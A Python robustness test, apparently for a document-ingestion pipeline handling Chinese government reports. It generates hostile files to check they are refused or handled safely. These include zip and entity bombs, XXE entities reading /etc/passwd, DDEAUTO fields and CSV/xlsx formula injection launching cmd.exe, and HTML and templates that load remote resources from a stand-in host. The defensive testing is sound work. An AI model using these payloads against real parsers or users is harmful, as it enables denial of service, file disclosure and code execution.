"""Files made to do harm, each under a megabyte or a few, and what must come of them.

`python tests/ingest/hostile.py [NAME ...]` reads them as a run does, without a network, and writes one JSON object a
file: outcome, seconds, and the peak memory of this process and its children so far.
"""

# ruff: noqa: E501 - the files are listed one a line
from __future__ import annotations

import io
import json
import socket
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from time import process_time
from xml.sax.saxutils import escape

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RELATED = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {"abcdefghij"[at + 1]} "{("&" + "abcdefghij"[at] + ";") * 9}">' for at in range(9))
    + "]>"
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "http://192.0.2.1/x"><!ENTITY b SYSTEM "file:///etc/passwd">]>'
TITLE = "云山县档案局2022年政府信息公开工作年度报告\n一、总体情况\n"


def zipped(parts: dict[str, str | bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as file:
        for name, part in parts.items():
            file.writestr(name, part)
    return buffer.getvalue()


def docx(body: str, before: str = "", **more: str) -> bytes:
    head = f"{before}<w:document {W} {R}><w:body>{body}</w:body></w:document>"
    return zipped({"[Content_Types].xml": "", "word/document.xml": head, **more})


def stored(data: bytes) -> bytes:
    """The same zip, nothing packed: no ratio gives it away."""
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        return zipped({name: file.read(name) for name in file.namelist()}, zipfile.ZIP_STORED)


def paragraph(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{escape(text)}</w:t></w:r></w:p>'


def cell(text: str, properties: str = "") -> str:
    return f"<w:tc><w:tcPr>{properties}</w:tcPr>{paragraph(text)}</w:tc>"


def xlsx(rows: str, before: str = "", more: str = "", strings: str = "") -> bytes:
    book = f'<workbook {S} {R}><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>'
    sheet = f'<Relationship Id="r1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
    return zipped(
        {
            "[Content_Types].xml": "",
            "xl/workbook.xml": book,
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{RELATED}">{sheet}</Relationships>',
            "xl/sharedStrings.xml": strings or f"<sst {S}/>",
            "xl/worksheets/sheet1.xml": f"{before}<worksheet {S}><sheetData>{rows}</sheetData>{more}</worksheet>",
        }
    )


def ofd(content: str, before: str = "") -> bytes:
    name = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    body = "<ofd:DocBody><ofd:DocInfo/><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody>"
    pages = '<ofd:Pages><ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/></ofd:Pages>'
    return zipped(
        {
            "OFD.xml": f"<ofd:OFD {name}>{body}</ofd:OFD>",
            "Doc_0/Document.xml": f"<ofd:Document {name}><ofd:CommonData/>{pages}</ofd:Document>",
            "Doc_0/Pages/Page_0/Content.xml": f"{before}<ofd:Page {name}><ofd:Content><ofd:Layer>{content}</ofd:Layer>"
            "</ofd:Content></ofd:Page>",
        }
    )


def letters(text: str) -> str:
    code = f'<ofd:TextCode X="0" Y="4">{escape(text)}</ofd:TextCode>'
    return f'<ofd:TextObject Boundary="10 10 180 4" Size="4">{code}</ofd:TextObject>'


def rich(text: str) -> bytes:
    return b"{\\rtf1 " + text.encode("ascii", "ignore") + b"}"


def nested_zips(depth: int) -> bytes:
    data = zipped({"a.txt": TITLE})
    for _ in range(depth):
        data = zipped({"in.zip": data})
    return data


def million(fragment: str) -> str:
    return (fragment * (1_000_000 // len(fragment) + 1))[:1_000_000]


# fragments that patterns for titles, headings, tables, glosses, dates, numbers, lists and furniture begin with
FRAGMENTS = {
    "blanks": " ",
    "lines": "\n",
    "tabs": "0\t",
    "pipes": "|",
    "pipes and blanks": "| ",
    "dashes": "|---",
    "digits": "1",
    "commas": "1,",
    "points": "1.1",
    "signs": "-+",
    "years": "2022年",
    "dates": "2022年1月",
    "brackets": "（",
    "pairs": "（一）",
    "items": "第二十条第（一）项",
    "firsts": "一是",
    "ordinals": "一、",
    "counts": "其中:12条,",
    "list": "A12条、",
    "glosses": "務(wù)",
    "questions": "?",
    "debris": "。ㄒ唬",
    "titles": "政府信息公开工作年度报告",
    "offices": "云山县人民政府办公室",
    "quotes": "《关于",
    "negations": "无、",
    "requests": "本年新收政府信息公开申请数量",
    "labels": "规章0",
    "hundred thousands": "一二三四五六七八九十百千万",
    "percent": "12.5%，",
    "comparisons": "比2021年的12件下降5.5%",
    "urls": "http://a.b/",
    "tags": "<a ",
    "closing": "</td>",
    "entities": "&nbsp;",
    "stars": "***",
    "commas in CSV": "a,b,c\n",
    "quoted": '"',
    "index": "索引号：",
}
PLACES: dict[str, tuple[str, Callable[[str], bytes]]] = {
    "text": ("txt", lambda text: (TITLE + text).encode()),
    "heading": (
        "txt",
        lambda text: ("云山县" + text + "\n一、总体情况\n公开1条。\n二、主动公开政府信息情况\n无。").encode(),
    ),
    "html": ("html", lambda text: f"<html><p>{TITLE}</p><p>{escape(text)}</p></html>".encode()),
    "html cell": ("html", lambda text: f"<html><table><tr><td>1<td>{escape(text)}<tr><td>2</table>".encode()),
    "docx": ("docx", lambda text: docx(paragraph(TITLE) + paragraph(text))),
    "docx cell": ("docx", lambda text: docx(f"<w:tbl><w:tr>{cell('规章')}{cell(text)}</w:tr></w:tbl>")),
}

SIZES: dict[str, tuple[str, str, Callable[[], bytes]]] = {
    "docx, 10,000,000 cells by spans": ("docx", "any", lambda: docx("<w:tbl>" + ("<w:tr>" + cell("1", '<w:gridSpan w:val="1000"/>') * 10 + "</w:tr>") * 1000 + "</w:tbl>")),
    "docx, 10,000,000 cells": ("docx", "any", lambda: docx("<w:tbl>" + ("<w:tr>" + "<w:tc><w:p/></w:tc>" * 1000 + "</w:tr>") * 10_000 + "</w:tbl>")),
    "docx, 600,000 cells": ("docx", "any", lambda: docx("<w:tbl>" + ("<w:tr>" + "<w:tc><w:p/></w:tc>" * 600 + "</w:tr>") * 1000 + "</w:tbl>")),
    "xlsx, 10,000,000 cells": ("xlsx", "any", lambda: xlsx(("<row>" + "<c><v>1</v></c>" * 1000 + "</row>") * 10_000)),
    "bomb in a docx": ("docx", "any", lambda: docx(paragraph("1" * (60 << 20)))),
    "bomb in an ofd": ("ofd", "any", lambda: ofd(letters("1" * (60 << 20)))),
    "docx, 3,000,000 elements": ("docx", "any", lambda: docx("<w:p/>" * 2_900_000)),
    "docx, 1,400,000 runs": ("docx", "any", lambda: docx("<w:p>" + "<w:r><w:t>1</w:t></w:r>" * 700_000 + "</w:p>")),
    "ofd, characters": ("ofd", "any", lambda: ofd(letters("政府信息公开" * 300_000))),
    "ofd, strokes": ("ofd", "any", lambda: ofd('<ofd:PathObject Boundary="0 0 200 200"><ofd:AbbreviatedData>' + "M 0 0 L 99 0 " * 300_000 + "</ofd:AbbreviatedData></ofd:PathObject>")),
    "xlsx, strings": ("xlsx", "any", lambda: xlsx("<row>" + '<c t="s"><v>0</v></c>' * 50_000 + "</row>", strings=f"<sst {S}><si><t>{'政府' * 5000}</t></si></sst>")),
}  # fmt: skip
FILES: dict[str, tuple[str, str, Callable[[], bytes]]] = {  # name: suffix, what must come of it, bytes
    **{name: (suffix, "refused", make) for name, (suffix, _, make) in SIZES.items()},
    # the same unpacked, so that other limits than the ratio are met
    **{
        f"{name}, stored": (suffix, expected, lambda make=make: stored(make()))
        for name, (suffix, expected, make) in SIZES.items()
    },
    # cells
    "xlsx, 10,000,000 cells by merging": ("xlsx", "harmless", lambda: xlsx('<row r="1"><c r="A1"><v>1</v></c></row>', more='<mergeCells><mergeCell ref="A1:ALL10000"/></mergeCells>')),
    "csv, 10,000,000 cells": ("csv", "any", lambda: ("1," * 999 + "1\n").encode() * 10_000),
    "markdown, 1,000,000 cells": ("md", "any", lambda: TITLE.encode() + b"| --- " * 100 + b"|\n" + (b"| 1 " * 100 + b"|\n") * 10_000),
    # depth
    "docx, tables in tables": ("docx", "refused", lambda: docx("<w:tbl><w:tr><w:tc>" * 2000 + "</w:tc></w:tr></w:tbl>" * 2000)),
    "docx, controls in controls": ("docx", "refused", lambda: docx("<w:sdt><w:sdtContent>" * 5000 + "</w:sdtContent></w:sdt>" * 5000)),
    "docx, 200 levels": ("docx", "any", lambda: docx("<w:sdt><w:sdtContent>" * 100 + paragraph("字") + "</w:sdtContent></w:sdt>" * 100)),
    "ofd, blocks in blocks": ("ofd", "refused", lambda: ofd("<ofd:PageBlock>" * 5000 + "</ofd:PageBlock>" * 5000)),
    "xlsx, elements in elements": ("xlsx", "refused", lambda: xlsx("<row>" * 5000 + "</row>" * 5000)),
    "rtf, groups in groups": ("rtf", "any", lambda: rich("{" * 100_000 + "a" + "}" * 100_000)),
    "zips in zips": ("zip", "refused", lambda: nested_zips(1000)),
    # entities and what leads outside
    **{
        f"{kind}, {name}": (kind, "refused", lambda kind=kind, before=before: {
            "docx": lambda: docx(paragraph("&a;&j;").replace("amp;", ""), before),
            "xlsx": lambda: xlsx("<row><c><v>&a;</v></c></row>", before),
            "ofd": lambda: ofd(letters("").replace("></ofd:TextCode", ">&a;</ofd:TextCode"), before),
        }[kind]())
        for kind in ("docx", "xlsx", "ofd")
        for name, before in (("billion laughs", LAUGHS), ("external entities", OUTSIDE))
    },
    "html, billion laughs": ("html", "harmless", lambda: f"{LAUGHS}<html><body><p>{TITLE}&j;".encode()),
    "html, external entities": ("html", "harmless", lambda: f"{OUTSIDE}<html><body><p>{TITLE}&a;&b;".encode()),
    "html, references": ("html", "harmless", lambda: (
        '<html><base href="http://192.0.2.1/"><link rel=stylesheet href="x.css"><meta http-equiv=refresh content="0;url=http://192.0.2.1/">'
        f'<script src="http://192.0.2.1/x.js"></script><body onload="fetch(1)"><img src="http://192.0.2.1/x.png"><iframe src="file:///etc/passwd"></iframe><object data="x"></object><p>{TITLE}').encode()),
    "docx, references": ("docx", "harmless", lambda: docx(
        paragraph(TITLE) + '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        **{"word/_rels/document.xml.rels": f'<Relationships xmlns="{RELATED}"><Relationship Id="t" Type="{OFFICE}/attachedTemplate" Target="http://192.0.2.1/x.dotm" TargetMode="External"/></Relationships>'})),
    "docx, embedded page": ("docx", "refused", lambda: docx(paragraph(TITLE) + '<w:altChunk r:id="t"/>')),
    "xlsx, formulas": ("xlsx", "harmless", lambda: xlsx("<row><c t='str'><f>WEBSERVICE(\"http://192.0.2.1/\")</f><v>x</v></c><c><f>cmd|'/c calc'!A1</f></c></row>")),
    "csv, formulas": ("csv", "harmless", lambda: b"a,b,c\n=cmd|'/c calc'!A1,@SUM(1),+1\n-1,=1+1,2\n=HYPERLINK(\"http://192.0.2.1\"),2,3\n"),
    "rtf, references": ("rtf", "any", lambda: rich('{\\field{\\*\\fldinst INCLUDETEXT "http://192.0.2.1/x" }}{\\object\\objautlink a}text')),
    # size
    "bomb in a zip": ("zip", "ratio", lambda: zipped({"a.txt": bytes(200 << 20)})),
    # long lines
    **{
        f"{place}, a line of 300,000": (PLACES[place][0], "any", lambda place=place: PLACES[place][1]("全年主动公开政府信息12条，其中规章3件、规范性文件9件，收到申请5件；" * 8600))
        for place in PLACES
    },
    # a megabyte for patterns to lose themselves in
    **{
        f"{place}, 1 MB of {name}": (PLACES[place][0], "any", lambda place=place, fragment=fragment: PLACES[place][1](million(fragment)))
        for place in ("text", "heading", "html cell")
        for name, fragment in FRAGMENTS.items()
    },
    **{
        f"{place}, 1 MB of {name}": (PLACES[place][0], "any", lambda place=place, name=name: PLACES[place][1](million(FRAGMENTS[name])))
        for place in ("html", "docx", "docx cell")
        for name in ("blanks", "lines", "tabs", "pairs", "glosses", "digits", "index")
    },
}  # fmt: skip


PATIENCE = 600  # seconds by the clock: what is limited here is time of the processor
HEAVY = ("0,000 cells", "0,000 elements", "0,000 runs", "bomb", "stored")


class Forbidden(OSError):
    """A connection was about to be made."""


def no_network(*_: object, **__: object) -> None:
    raise Forbidden("no network here")


def main() -> None:
    import resource

    from nlp import catalog, engine
    from nlp.errors import BudgetExceeded, GongkaiError
    from nlp.pipeline import Tools

    tools = Tools(catalog.load())
    with tempfile.TemporaryDirectory() as folder:
        for name in sys.argv[1:] or list(FILES):
            path = Path(folder) / f"file.{FILES[name][0]}"
            if any(word in name for word in HEAVY):  # made elsewhere: that memory is not ours
                subprocess.run([sys.executable, __file__, "--make", name, str(path)], check=True)
            else:
                path.write_bytes(FILES[name][2]())
            connect, find = socket.socket.connect, socket.getaddrinfo
            socket.socket.connect = socket.getaddrinfo = no_network  # type: ignore[method-assign,assignment]
            start = process_time()
            results = []
            recipe = engine.Recipe(seconds=PATIENCE)
            for _, outcome in engine.analyze_shard(engine.find_files([path]), tools, recipe):
                if isinstance(outcome, BudgetExceeded):
                    results.append(outcome.budget)
                else:
                    results.append(outcome.en if isinstance(outcome, GongkaiError) else "read")
            seconds = round(process_time() - start, 2)
            socket.socket.connect, socket.getaddrinfo = connect, find  # type: ignore[method-assign]
            peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
            found = {"name": name, "size": path.stat().st_size, "outcome": results}
            print(json.dumps({**found, "seconds": seconds, "peak_kb": peak}), flush=True)


if __name__ == "__main__":
    if sys.argv[1:2] == ["--make"]:
        Path(sys.argv[3]).write_bytes(FILES[sys.argv[2]][2]())
    else:
        main()
